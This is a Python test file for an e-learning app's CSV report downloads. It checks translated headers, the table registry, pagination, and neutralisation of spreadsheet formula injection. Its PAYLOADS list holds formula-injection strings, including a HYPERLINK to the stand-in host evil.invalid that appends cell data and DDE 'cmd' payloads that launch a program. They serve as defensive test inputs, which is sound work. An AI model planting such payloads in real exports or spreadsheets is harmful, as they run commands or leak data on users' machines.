"""The reports' CSV downloads: the table registry, headers and words in the reader's language,
and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import re

import pytest
from flask_babel import force_locale

from elearn.accounts.models import Role
from elearn.core.csvfile import FORMULA_STARTS, cell, excel_csv, neutralise
from elearn.courses.services import get_course
from elearn.reports import exports
from tests.reports.test_views import rows_of
from tests.reports.util import DAY1, attempt, bulk_learners, correct, read, wrong_option

# What people could type into a name, an e-mail address, a group's name or a free text.
PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?"&A1;"klik")',
    "+358 40 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
OUR_NUMBER = re.compile(r"^-\d+(,\d+)?$")  # a negative number the report computed


@pytest.fixture
def course(app):
    with app.app_context():
        return get_course()


def assert_no_formulas(rows: list[list[str]]) -> None:
    """No cell starts like a formula, except negative numbers the report wrote."""
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                assert OUR_NUMBER.match(value), (value, row)


def urls(course, learner_id: int) -> dict[str, str]:
    """Every registered table's address, with what it needs."""
    module = course.modules[0].key
    extra = {"module": f"?module={module}", "learner": f"?learner={learner_id}", None: ""}
    return {
        key: f"/reports/export/{key}.csv{extra[table.needs]}"
        for key, table in exports.TABLES.items()
    }


# ------------------------------------------------------------------ the writer


def test_the_writer_neutralises_text_that_starts_like_a_formula():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload  # a quote in front, the rest kept
    assert neutralise("Åsa Öberg") == "Åsa Öberg"
    assert neutralise("a=1") == "a=1"  # only the first character matters
    assert neutralise("") == ""
    # Numbers the reports compute stay numbers, negative ones too; text "-5" does not.
    assert (
        cell(-0.25) == "-0,25" and cell(-3) == "-3" and cell(72.5, decimal_separator=".") == "72.5"
    )
    assert cell("-5") == "'-5"
    assert cell(None) == ""
    with pytest.raises(TypeError):
        cell(True)  # yes/no must be words in the reader's language
    data = excel_csv(["a"], [["x;=1+1"]], notes=["=note"])
    # The separator inside a cell is quoted, so "=1+1" cannot start a cell of its own.
    assert data == '\ufeffa\r\n"x;=1+1"\r\n\r\n\'=note\r\n'.encode()


# ------------------------------------------------------------------ the registry


def test_every_table_is_registered_once_with_a_title_columns_and_a_query(app):
    assert set(exports.TABLES) == {
        "cohorts",
        "modules",
        "questions",
        "options",
        "learners",
        "attempts",
    }
    with app.test_request_context():
        for key, table in exports.TABLES.items():
            assert table.key == key and str(table.title) and table.columns and table.rows
            assert all(str(c.header) for c in table.columns)
        with pytest.raises(ValueError, match="registered already"):
            exports.register(exports.TABLES["cohorts"])


@pytest.mark.parametrize("language", ["fi", "sv", "en"])
def test_headers_are_in_the_readers_language(
    app, course, language, make_user, make_cohort, login_as, client, db
):
    learner = make_user(cohort=make_cohort("Kieliryhmä"))
    module = course.modules[0]
    read(learner, module, DAY1)
    attempt(learner, module, DAY1, score=80)
    login_as(make_user(Role.TRAINER, language=language))
    for key, url in urls(course, learner.id).items():
        header = rows_of(client.get(url))[0]
        table = exports.TABLES[key]
        with app.test_request_context(), force_locale("en"):
            english = [str(c.header) for c in table.columns]
        if language == "en":
            assert header == english, key
        else:  # every header translated: none left in English
            assert all(h != e for h, e in zip(header, english, strict=True)), (key, header)
    cohorts = rows_of(client.get("/reports/export/cohorts.csv"))
    expected = {
        "fi": ["Taso", "Ryhmä", "Ryhmän tunniste", "Opiskelijat"],
        "sv": ["Nivå", "Grupp", "Gruppens id", "Studerande"],
        "en": ["Level", "Group", "Group key", "Learners"],
    }
    assert cohorts[0][:4] == expected[language]
    everyone = {"fi": "Kaikki opiskelijat", "sv": "Alla studerande", "en": "All learners"}
    assert cohorts[-1][:2] == [everyone[language]] * 2
    modules = rows_of(client.get("/reports/export/modules.csv"))
    row = next(r for r in modules[1:] if r[4] == module.key)
    assert row[3] == f"1. {module.text(language)[0].title}"  # the module's title in that language
    mean_best = modules[0].index(
        {
            "fi": "Parhaan tuloksen keskiarvo",
            "sv": "Medelvärde av bästa resultat",
            "en": "Mean best score",
        }[language]
    )
    assert row[mean_best] == ("80.0" if language == "en" else "80,0")
    options = rows_of(client.get(f"/reports/export/options.csv?module={module.key}"))
    words = {"fi": {"Kyllä", "Ei"}, "sv": {"Ja", "Nej"}, "en": {"Yes", "No"}}[language]
    assert {r[6] for r in options[1:]} == words  # "correct" as words
    question = module.quiz.questions[0]
    assert options[1][2] == question.text(language) and options[1][3] == question.key


# ------------------------------------------------------------------ formula injection


def test_no_report_download_has_a_cell_that_runs_as_a_formula(
    course, make_user, make_cohort, login_as, client, db
):
    module = course.modules[0]
    people = []
    for i, payload in enumerate(PAYLOADS):
        cohort = make_cohort(payload)
        person = make_user(cohort=cohort, name=payload, email=f"{payload.strip()}{i}@example.fi")
        read(person, module, DAY1)
        # An attempt whose stored choices were tampered with: written as they are, neutralised.
        answers = correct(module)
        answers[module.quiz.questions[0].key] = [payload]
        attempt(person, module, DAY1, score=100).answers = answers
        people.append(person)
    db.session.commit()
    login_as(make_user(Role.TRAINER))
    for key, url in urls(course, people[0].id).items():
        rows = rows_of(client.get(url))
        assert len(rows) > 1, key
        assert_no_formulas(rows)
    groups = rows_of(client.get("/reports/export/cohorts.csv"))
    learners = rows_of(client.get("/reports/export/learners.csv"))
    attempts = rows_of(client.get(f"/reports/export/attempts.csv?learner={people[0].id}"))
    for i, payload in enumerate(PAYLOADS):
        assert any(r[1] == "'" + payload for r in groups), payload  # a group's name
        person = next(r for r in learners if r[0] == str(people[i].id))
        # Name, e-mail address (each starts like a formula here) and group.
        assert person[1:4] == ["'" + payload, "'" + people[i].email, "'" + payload]
    assert any("'" + PAYLOADS[0] in r for r in attempts)  # the stored choices, as text


def test_an_email_address_that_starts_like_a_formula_is_neutralised(
    course, make_user, make_cohort, login_as, client, db
):
    cohort = make_cohort("Osoitteet")
    addresses = [f"{c}x{i}@example.fi" for i, c in enumerate("=+-@")]
    for address in addresses:
        make_user(cohort=cohort, email=address, name="Nimi")
    login_as(make_user(Role.TRAINER))
    rows = rows_of(client.get(f"/reports/export/learners.csv?cohort={cohort.id}"))
    assert sorted(r[2] for r in rows[1:]) == sorted("'" + a for a in addresses)


def test_a_negative_discrimination_stays_a_number(
    course, make_user, make_cohort, login_as, client, db
):
    """The report's own negative numbers are written as numbers, not neutralised as text."""
    module = course.modules[0]
    first = module.quiz.questions[0]
    cohort = make_cohort("Erottelu")
    right_on_first = {q.key: [wrong_option(q)] for q in module.quiz.questions}
    right_on_first[first.key] = correct(module)[first.key]
    wrong_on_first = correct(module)
    wrong_on_first[first.key] = [wrong_option(first)]
    for answers in (right_on_first, wrong_on_first):
        attempt(make_user(cohort=cohort), module, DAY1, answers=answers)
    login_as(make_user(Role.TRAINER))
    rows = rows_of(
        client.get(f"/reports/export/questions.csv?cohort={cohort.id}&module={module.key}")
    )
    column = rows[0].index("Erottelukyky")
    assert rows[1][column] == "-1,0"


# ------------------------------------------------------------------ the learner list pages


def test_the_learner_list_pages_with_db_paginate(course, make_user, login_as, client, db):
    bulk_learners(course, 60, seed=5)
    login_as(make_user(Role.TRAINER))
    first = client.get("/reports/learners").get_data(as_text=True)
    assert first.count('<th scope="row">') == 50 and 'rel="next"' in first
    assert "60 opiskelijaa" in first
    second = client.get("/reports/learners?page=2").get_data(as_text=True)
    assert second.count('<th scope="row">') == 10 and 'rel="prev"' in second
    assert 'rel="next"' not in second
    assert client.get("/reports/learners?page=3").status_code == 404
    # The download has every learner, not one page.
    assert len(rows_of(client.get("/reports/export/learners.csv"))) == 1 + 60
